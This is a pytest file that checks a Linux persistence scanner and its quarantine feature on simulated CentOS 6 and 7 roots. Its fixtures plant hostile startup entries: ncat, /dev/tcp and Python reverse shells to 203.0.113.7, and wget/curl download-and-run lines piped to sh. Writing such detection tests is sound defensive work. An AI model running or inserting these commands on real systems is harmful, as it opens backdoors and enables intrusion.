"""The persistence scan on Red Hat-style roots: Upstart jobs and their overrides (RHEL 6), the SysV
scripts of /etc/rc.d/init.d with their runlevel links, and rc.local under systemd (RHEL 7). Every
planted mechanism is found by the rule meant for it; the stock roots come out without a finding."""

from __future__ import annotations

import hashlib
import json
import os
import random
import subprocess
import time
from pathlib import Path

import pytest
from ansible_collections.lifeline.rescue.plugins.module_utils.persistence import quarantine
from ansible_collections.lifeline.rescue.plugins.module_utils.persistence import scan as persistence

from support.planted import Link, found, plant
from support.planted_rhel import (
    PROGRAM,
    RC_LOCAL,
    RHEL6_LINKS,
    RHEL6_PACKAGES,
    RHEL7_LINKS,
    RHEL7_PACKAGES,
    build_packages,
    rhel_root,
    rpm_files,
)

pytest_plugins = ("support.planted_roots",)

REVERSE_SHELL_JOB = (
    "# sysmon - system monitor\n"
    "start on runlevel [2345]\n"
    "stop on runlevel [!2345]\n"
    "respawn\n"
    "exec /usr/local/bin/ncat -e /bin/bash 203.0.113.7 4444\n"
)
NCAT = {"/usr/local/bin/ncat": (PROGRAM, 0o755)}
LINK_OUT = "/etc/rc.d/rc3.d/S99sshd-keys"


@pytest.fixture(scope="module")
def rhel6_packages(tmp_path_factory) -> list[Path]:
    return build_packages(tmp_path_factory.mktemp("rhel6-rpms"), RHEL6_PACKAGES, "6")


@pytest.fixture(scope="module")
def rhel7_packages(tmp_path_factory) -> list[Path]:
    return build_packages(tmp_path_factory.mktemp("rhel7-rpms"), RHEL7_PACKAGES, "7")


@pytest.fixture
def rhel6(tmp_path, rhel6_packages) -> Path:
    return rhel_root(tmp_path / "rhel6", rhel6_packages, RHEL6_LINKS, "CentOS release 6.10 (Final)")


@pytest.fixture
def rhel7(tmp_path, rhel7_packages) -> Path:
    root = rhel_root(tmp_path / "rhel7", rhel7_packages, RHEL7_LINKS, "CentOS Linux release 7.9.2009 (Core)")
    plant(root, "/etc/os-release", 'NAME="CentOS Linux"\nVERSION_ID="7"\nID="centos"\n')
    return root


def not_listed_accounts(findings: list[dict]) -> list[dict]:
    """The findings but the accounts listed for review (info), which test_accounts checks."""
    return [f for f in findings if (f["location"], f["severity"]) != ("account", "info")]


def _plant_all(root: Path, files: dict) -> None:
    for path, spec in files.items():
        plant(root, path, *(spec if isinstance(spec, tuple) else (spec,)))


# ---- the stock roots ----------------------------------------------------------------------------


@pytest.mark.parametrize("layout", ["rhel6", "rhel7"])
def test_stock_roots_have_no_finding(layout, request, rules):
    root = request.getfixturevalue(layout)

    result = persistence.scan(str(root), rules)

    assert not_listed_accounts(result.finding_dicts()) == []
    # alice is a person (uid 500 on RHEL 6, a home of her own under /home on RHEL 7): listed.
    assert [(f["rule"], f["user"]) for f in result.finding_dicts()] == [("human-account", "alice")]
    assert result.notes == []
    assert result.package_database is True
    kinds = {item.kind for item in result.scanner.items}
    assert {"init_script", "rc_local"} <= kinds
    assert ("upstart_job" in kinds) == (layout == "rhel6")
    assert "rc_link" not in kinds


def test_stock_rhel6_jobs_are_read_process_by_process(rhel6, rules):
    result = persistence.scan(str(rhel6), rules)

    commands = {
        (i.file.path, i.line, i.command)
        for i in result.scanner.items
        if i.kind == "upstart_job" and i.line is not None
    }
    assert commands == {
        ("/etc/init/tty.conf", 9, "/sbin/mingetty $TTY"),
        ("/etc/init/control-alt-delete.conf", 8, '/sbin/shutdown -r now "Control-Alt-Delete pressed"'),
        ("/etc/init/rc.conf", 14, "/etc/rc.d/rc $RUNLEVEL"),
        ("/etc/init/start-ttys.conf", 10, ". /etc/sysconfig/init"),
        ("/etc/init/start-ttys.conf", 11, "for tty in $(echo $ACTIVE_CONSOLES) ; do"),
        ("/etc/init/start-ttys.conf", 12, '[ "$RUNLEVEL" = "5" -a "$tty" = "$X_TTY" ] && continue'),
        ("/etc/init/start-ttys.conf", 13, "initctl start tty TTY=$tty"),
        ("/etc/init/start-ttys.conf", 14, "done"),
        ("/etc/init/serial.conf", 9, "/sbin/securetty $DEV"),
        ("/etc/init/serial.conf", 10, "/sbin/agetty /dev/$DEV  $SPEED vt100-nav"),
    }
    runs = {i.file.path: i.payload for i in result.scanner.items if i.line == 13}
    assert runs["/etc/init/start-ttys.conf"] == "/sbin/initctl"
    notes = {p: f.notes for p, f in result.scanner.files.items() if f.kind == "upstart_job"}
    assert notes["/etc/init/tty.conf"] == [
        "no 'start on': it runs only when started by hand or by another job",
        "respawned by Upstart whenever it exits",
    ]
    assert notes["/etc/init/rc.conf"] == [
        "Upstart starts it at boot (start on runlevel [0123456])",
        "a task: runs to completion each time it is started",
    ]
    assert notes["/etc/init/control-alt-delete.conf"] == [
        "Upstart starts it on an event (start on control-alt-delete)"
    ]
    assert notes["/etc/init/serial.conf"] == [
        "Upstart starts it at boot (start on (fedora.serial-console-available CONSOLE=* "
        "and stopped rc RUNLEVEL=[2345]))",
        "respawned by Upstart whenever it exits",
    ]


def test_ownership_comes_from_the_database_real_rpm_wrote(rhel6, rules):
    """A job and a program packaged by rpm, a job and a program planted beside them: the scan tells
    them apart as rpm itself does."""
    _plant_all(rhel6, {"/etc/init/sysmon.conf": REVERSE_SHELL_JOB, **NCAT})
    listed = rpm_files(rhel6)

    result = persistence.scan(str(rhel6), rules)
    reader = result.scanner

    assert (reader.package_manager, result.package_database) == ("rpm", True)
    assert {"/etc/init/tty.conf", "/sbin/mingetty"} <= listed
    assert reader.package_of("/etc/init/tty.conf") == "initscripts"
    assert reader.package_of("/sbin/mingetty") == "mingetty"
    for planted in ("/etc/init/sysmon.conf", "/usr/local/bin/ncat"):
        assert planted not in listed
        assert reader.package_of(planted) is None
        assert reader.unowned(planted)
    # Through Red Hat's links: /etc/init.d/network is rc.d/init.d/network, which rpm lists.
    assert reader.package_of("/etc/init.d/network") == "initscripts"
    finding = next(f for f in result.finding_dicts() if f["rule"] == "reverse-shell")
    assert (finding["file"]["package"], finding["payload"]["package"]) == (None, None)


def test_a_script_reached_through_init_d_and_rc_d_init_d_is_read_once(rhel6, rules):
    result = persistence.scan(str(rhel6), rules)

    scripts = [i for i in result.scanner.items if i.kind == "init_script" and i.line is None]
    assert sorted(i.file.path for i in scripts) == [
        "/etc/rc.d/init.d/crond",
        "/etc/rc.d/init.d/functions",
        "/etc/rc.d/init.d/network",
    ]
    network = next(i for i in scripts if i.file.path.endswith("/network"))
    assert network.references == (
        "/etc/rc.d/init.d/network",
        "/etc/rc.d/rc0.d/K90network",
        "/etc/rc.d/rc3.d/S10network",
    )
    assert network.file.notes == [
        "run in a runlevel by /etc/rc.d/rc0.d/K90network, /etc/rc.d/rc3.d/S10network"
    ]
    # rc.local is read once, at its real path, although /etc/rc.local and S99local lead to it.
    assert [f.path for f in result.scanner.files.values() if f.kind == "rc_local"] == ["/etc/rc.d/rc.local"]


# ---- what is found ------------------------------------------------------------------------------


# name: (layout, files planted, the findings expected: (rule, location, path, line))
def unpackaged_job(path: str, line: int, *kinds: str) -> set[tuple[str, str, str, int | None]]:
    """The findings of an Upstart job no package owns whose ``line`` runs something each of ``kinds``
    calls suspicious."""
    return {
        *((kind, "upstart_job", path, line) for kind in kinds),
        ("unpackaged-startup-runs-suspicious", "upstart_job", path, line),
        ("unpackaged-startup-item", "upstart_job", path, None),
    }


CASES = {
    "upstart_job_respawning_a_reverse_shell": (
        "rhel6",
        {"/etc/init/sysmon.conf": REVERSE_SHELL_JOB, **NCAT},
        unpackaged_job("/etc/init/sysmon.conf", 5, "reverse-shell"),
    ),
    "upstart_job_disabled_by_manual_is_still_there": (
        "rhel6",
        {"/etc/init/sysmon.conf": REVERSE_SHELL_JOB, "/etc/init/sysmon.override": "manual\n", **NCAT},
        unpackaged_job("/etc/init/sysmon.conf", 5, "reverse-shell"),
    ),
    "upstart_script_block_downloads_and_runs": (
        "rhel6",
        {
            "/etc/init/yum-helper.conf": "start on stopped rc RUNLEVEL=[2345]\ntask\nscript\n  sleep 60\n"
            "  # the latest helper\n  wget -q -O- http://198.51.100.9/h.sh | sh\nend script\n"
        },
        unpackaged_job("/etc/init/yum-helper.conf", 6, "download-execute"),
    ),
    "override_replaces_a_packaged_jobs_exec": (
        "rhel6",
        {"/etc/init/tty.override": "exec /usr/bin/.mingetty $TTY\n", "/usr/bin/.mingetty": (PROGRAM, 0o755)},
        unpackaged_job("/etc/init/tty.override", 1, "exec-hidden-path")
        | {("unowned-file-in-packaged-dir", "package_file", "/usr/bin/.mingetty", None)},
    ),
    "pre_start_of_a_planted_job_runs_from_dev_shm": (
        "rhel6",
        {
            "/etc/init/udev-settle.conf": "start on startup\npre-start exec /dev/shm/.x/m -B\n"
            "exec /sbin/mingetty tty9\n"
        },
        unpackaged_job(
            "/etc/init/udev-settle.conf", 2, "exec-temp-dir", "exec-hidden-path", "known-indicator-path"
        ),
    ),
    "unowned_init_script_started_in_runlevel_3": (
        "rhel6",
        {
            "/etc/rc.d/init.d/ntpsyncd": (
                "#!/bin/sh\n# chkconfig: 345 85 15\n/usr/local/sbin/ntpsyncd &\n",
                0o755,
            ),
            "/etc/rc.d/rc3.d/S85ntpsyncd": Link("../init.d/ntpsyncd"),
        },
        {
            ("unpackaged-init-script-in-runlevel", "init_script", "/etc/rc.d/init.d/ntpsyncd", None),
            ("unpackaged-startup-item", "init_script", "/etc/rc.d/init.d/ntpsyncd", None),
        },
    ),
    "a_script_lying_in_a_runlevel_directory": (
        "rhel6",
        {"/etc/rc.d/rc5.d/S98update": ("wget -q http://198.51.100.9/x -O- | sh\n", 0o755)},
        {
            ("runlevel-link-outside-init-d", "rc_link", "/etc/rc.d/rc5.d/S98update", None),
            ("download-execute", "rc_link", "/etc/rc.d/rc5.d/S98update", 1),
            ("unpackaged-startup-runs-suspicious", "rc_link", "/etc/rc.d/rc5.d/S98update", 1),
        },
    ),
    "runlevel_link_to_a_script_another_location_holds": (
        "rhel6",
        {
            "/etc/rc.d/rc3.d/S99sync": Link("/etc/cron.hourly/sync"),
            "/etc/cron.hourly/sync": ("#!/bin/sh\n/bin/touch /var/run/sync\n", 0o755),
        },
        {("runlevel-link-outside-init-d", "rc_link", "/etc/rc.d/rc3.d/S99sync", None)},
    ),
    "runlevel_link_to_a_hidden_script_outside_init_d": (
        "rhel7",
        {
            LINK_OUT: Link("/usr/local/lib/.k/run"),
            "/usr/local/lib/.k/run": (
                "#!/bin/sh\n/usr/local/lib/.k/kd -c /usr/local/lib/.k/c.conf &\n",
                0o755,
            ),
        },
        {
            ("runlevel-link-outside-init-d", "rc_link", LINK_OUT, None),
            ("exec-hidden-path", "rc_link", LINK_OUT, None),
            ("unpackaged-startup-runs-suspicious", "rc_link", LINK_OUT, None),
            ("exec-hidden-path", "rc_link", LINK_OUT, 2),
            ("unpackaged-startup-runs-suspicious", "rc_link", LINK_OUT, 2),
        },
    ),
    "session_job_of_alice_and_a_setuid_system_job": (
        "rhel6",
        {
            "/home/alice/.config/upstart/indicator.conf": (
                "start on desktop-start\nexec python3 -c 'import socket,os;s=socket.socket();"
                's.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0)\'\n',
                0o644,
                500,
            ),
            "/etc/init/metrics.conf": "start on runlevel [2345]\nsetuid nobody\nexec /tmp/.m/run\n",
            # An override with no job of its own defines nothing: Upstart ignores it.
            "/etc/init/orphan.override": "exec /tmp/.m/run\n",
        },
        unpackaged_job("/home/alice/.config/upstart/indicator.conf", 2, "reverse-shell")
        | unpackaged_job("/etc/init/metrics.conf", 3, "exec-temp-dir", "exec-hidden-path"),
    ),
    "rhel6_rc_local_opens_a_reverse_shell": (
        "rhel6",
        {"/etc/rc.d/rc.local": (RC_LOCAL + "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &\n", 0o755)},
        {("reverse-shell", "rc_local", "/etc/rc.d/rc.local", 8)},
    ),
    "rhel7_rc_local_opens_a_reverse_shell": (
        "rhel7",
        {"/etc/rc.d/rc.local": (RC_LOCAL + "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &\n", 0o755)},
        {("reverse-shell", "rc_local", "/etc/rc.d/rc.local", 8)},
    ),
}


@pytest.mark.parametrize("name", CASES)
def test_planted_red_hat_roots(name, request, rules):
    layout, files, expected = CASES[name]
    root = request.getfixturevalue(layout)
    _plant_all(root, files)

    result = persistence.scan(str(root), rules)

    assert found(result) == expected
    assert result.notes == []


def test_a_job_disabled_by_manual_says_so(rhel6, rules):
    _plant_all(rhel6, {"/etc/init/sysmon.conf": REVERSE_SHELL_JOB, "/etc/init/sysmon.override": "manual\n"})
    plant(rhel6, "/etc/init/control-alt-delete.override", "# no reboots from the console\nmanual\n")

    result = persistence.scan(str(rhel6), rules)
    finding = next(f for f in result.finding_dicts() if f["rule"] == "reverse-shell")

    disabled = (
        "disabled by 'manual' in /etc/init/sysmon.override: Upstart starts it only when asked "
        "(Upstart 0.6.7 and later; RHEL 6's Upstart 0.6.5 does not know 'manual')"
    )
    assert finding["notes"] == [disabled, "respawned by Upstart whenever it exits"]
    assert (
        result.scanner.files["/etc/init/control-alt-delete.conf"]
        .notes[0]
        .startswith("disabled by 'manual' in /etc/init/control-alt-delete.override")
    )
    # An override that only disables starts nothing: it is no item, and no finding.
    assert {i.file.path for i in result.scanner.items if i.file.path.endswith(".override")} == set()
    assert {f["path"] for f in not_listed_accounts(result.finding_dicts())} == {"/etc/init/sysmon.conf"}


@pytest.mark.parametrize(
    ("job", "override", "note"),
    [
        ("start on runlevel [2345]\nmanual\n", None, "disabled by 'manual' in its .conf"),
        ("manual\nstart on runlevel [2345]\n", None, "Upstart starts it at boot (start on runlevel [2345])"),
        ("manual\n", "start on startup\n", "Upstart starts it at boot (start on startup)"),
        ("start on startup\n", "manual\n", "disabled by 'manual' in /etc/init/probe.override"),
        ("start on startup\n", "# nothing\n", "Upstart starts it at boot (start on startup)"),
    ],
)
def test_manual_and_start_on_are_read_in_order_job_then_override(rhel6, rules, job, override, note):
    plant(rhel6, "/etc/init/probe.conf", job + "exec /bin/true\n")
    if override is not None:
        plant(rhel6, "/etc/init/probe.override", override)

    result = persistence.scan(str(rhel6), rules)

    assert result.scanner.files["/etc/init/probe.conf"].notes[0].startswith(note)


def test_an_overrides_exec_replaces_the_jobs_own(rhel6, rules):
    plant(rhel6, "/etc/init/tty.override", "exec /usr/bin/.mingetty $TTY\n")

    result = persistence.scan(str(rhel6), rules)

    tty = [(i.file.path, i.line) for i in result.scanner.items if "/etc/init/tty." in i.file.path]
    assert tty == [
        ("/etc/init/tty.conf", None),
        ("/etc/init/tty.override", None),
        ("/etc/init/tty.conf", 9),
        ("/etc/init/tty.override", 1),
    ]
    assert result.scanner.files["/etc/init/tty.conf"].notes[0] == (
        "its main process is replaced by /etc/init/tty.override's where Upstart reads override files "
        "(not RHEL 6's Upstart 0.6.5, which runs this one)"
    )


def test_a_decoy_override_does_not_hide_the_jobs_own_exec(rhel6, rules):
    """RHEL 6's Upstart reads no override file: the job's exec still runs there, and is still found."""
    _plant_all(
        rhel6, {"/etc/init/sysmon.conf": REVERSE_SHELL_JOB, "/etc/init/sysmon.override": "exec /bin/true\n"}
    )

    result = persistence.scan(str(rhel6), rules)

    assert ("reverse-shell", "upstart_job", "/etc/init/sysmon.conf", 5) in found(result)


def test_a_job_runs_as_its_setuid_user_a_session_job_as_its_owner(rhel6, rules):
    _plant_all(rhel6, CASES["session_job_of_alice_and_a_setuid_system_job"][1])

    result = persistence.scan(str(rhel6), rules)

    users = {
        (f["path"], f["user"]) for f in not_listed_accounts(result.finding_dicts()) if f["line"] is not None
    }
    assert users == {
        ("/home/alice/.config/upstart/indicator.conf", "alice"),
        ("/etc/init/metrics.conf", "nobody"),
    }


@pytest.mark.parametrize(("mode", "runs"), [(0o755, True), (0o644, False)])
def test_rhel7_rc_local_runs_only_when_executable(rhel7, rules, mode, runs):
    plant(rhel7, "/etc/rc.d/rc.local", RC_LOCAL + "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &\n", mode)

    result = persistence.scan(str(rhel7), rules)
    finding = next(f for f in result.finding_dicts() if f["rule"] == "reverse-shell")

    condition = "(ConditionFileIsExecutable=/etc/rc.d/rc.local)"
    assert finding["notes"] == [
        f"executable: rc-local.service runs it at boot {condition}"
        if runs
        else f"not executable: rc-local.service does not run it until it is made executable {condition}"
    ]
    whole = next(i for i in result.scanner.items if i.kind == "rc_local" and i.line is None)
    assert whole.executes == (("/etc/rc.d/rc.local",) if runs else ())


# ---- quarantine ---------------------------------------------------------------------------------


def test_quarantine_moves_a_job_and_a_runlevel_entry_keeping_evidence_and_a_way_back(rhel6, rules):
    _plant_all(
        rhel6,
        {
            "/etc/init/sysmon.conf": REVERSE_SHELL_JOB,
            **NCAT,
            "/etc/rc.d/rc5.d/S98update": ("wget -q http://198.51.100.9/x -O- | sh\n", 0o755),
            "/etc/rc.d/init.d/sshd-helper": ("#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", 0o755),
            "/etc/rc3.d/S55sshd-helper": Link("../init.d/sshd-helper"),
        },
    )
    job = (rhel6 / "etc/init/sysmon.conf").read_bytes()
    result = persistence.scan(str(rhel6), rules)
    actions = quarantine.plan(result, stamp="20250101T000000Z")

    assert {a.path for a in actions if a.action == "move"} == {
        "/etc/init/sysmon.conf",
        "/usr/local/bin/ncat",
        "/etc/rc.d/rc5.d/S98update",
        "/etc/rc.d/init.d/sshd-helper",
        # reached through /etc/rc3.d, a link to rc.d/rc3.d: the link that starts the script goes with it
        "/etc/rc.d/rc3.d/S55sshd-helper",
    }
    assert [a for a in actions if a.action != "move"] == []
    quarantine.apply(result, actions, "/var/backups/lifeline", stamp="20250101T000000Z")

    assert [a.error for a in actions if a.error] == []
    held = rhel6 / "var/lib/lifeline/quarantine/20250101T000000Z/etc/init/sysmon.conf"
    assert not (rhel6 / "etc/init/sysmon.conf").exists()
    assert held.read_bytes() == job
    record = json.loads(Path(f"{held}.lifeline.json").read_text())
    assert record["sha256"] == hashlib.sha256(job).hexdigest()
    assert record["original_path"] == "/etc/init/sysmon.conf"
    assert {r["id"] for r in record["rules"]} == {"reverse-shell", "unpackaged-startup-runs-suspicious"}
    assert record["restore"].startswith("test ! -e /etc/init/sysmon.conf && ")

    again = persistence.scan(str(rhel6), rules)
    assert not_listed_accounts(again.finding_dicts()) == []
    assert {h["path"] for h in again.already_quarantined} == {a.path for a in actions}

    for action in actions:
        subprocess.run(["sh", "-c", action.restore_host], check=True, timeout=30)
    assert (rhel6 / "etc/init/sysmon.conf").read_bytes() == job
    assert found(persistence.scan(str(rhel6), rules)) == found(result)


def test_an_owned_job_is_never_moved_and_the_advice_speaks_rpm(rhel6, rules):
    plant(rhel6, "/etc/init/tty.conf", "exec bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n")
    result = persistence.scan(str(rhel6), rules)

    actions = quarantine.plan(result, stamp="20250101T000000Z")

    assert [(a.action, a.path) for a in actions] == [("manual", "/etc/init/tty.conf")]
    assert "owned by package initscripts: reinstall it (yum reinstall" in actions[0].reason


# ---- hostile job files --------------------------------------------------------------------------


def test_garbage_and_unclosed_quotes_in_job_files_are_read_fast(rhel6, rules, deadline):
    plant(rhel6, "/etc/init/garbage.conf", random.Random(6).randbytes(256 << 10))
    plant(rhel6, "/etc/init/quote.conf", "exec /bin/true '\n" + "x\n" * 200000)
    plant(rhel6, "/etc/init/paren.conf", "start on (" + "(" * 50000 + "\nexec /tmp/a\n")
    # 16 MB of stanzas each held open for 100 lines by a quote: read in linear time.
    plant(rhel6, "/etc/init/quotes.conf", ("exec '\n" + "a\n" * 99) * 78000)
    plant(rhel6, "/etc/init/noend.conf", "script\n" + "/bin/true\n" * 1000 + "curl http://x/ | sh\n")
    os.mkfifo(rhel6 / "etc/init/fifo.conf")

    # The work is measured in this process's CPU time, which a busy machine does not inflate: a
    # quadratic reading of the 16 MB file takes minutes of it, the linear one a few seconds.
    started = time.process_time()
    with deadline(60):
        result = persistence.scan(str(rhel6), rules)

    assert time.process_time() - started < 20
    assert ("download-execute", "upstart_job", "/etc/init/noend.conf", 1002) in found(result)
    assert [n["path"] for n in result.notes] == ["/etc/init/fifo.conf"]
    json.dumps(result.finding_dicts())
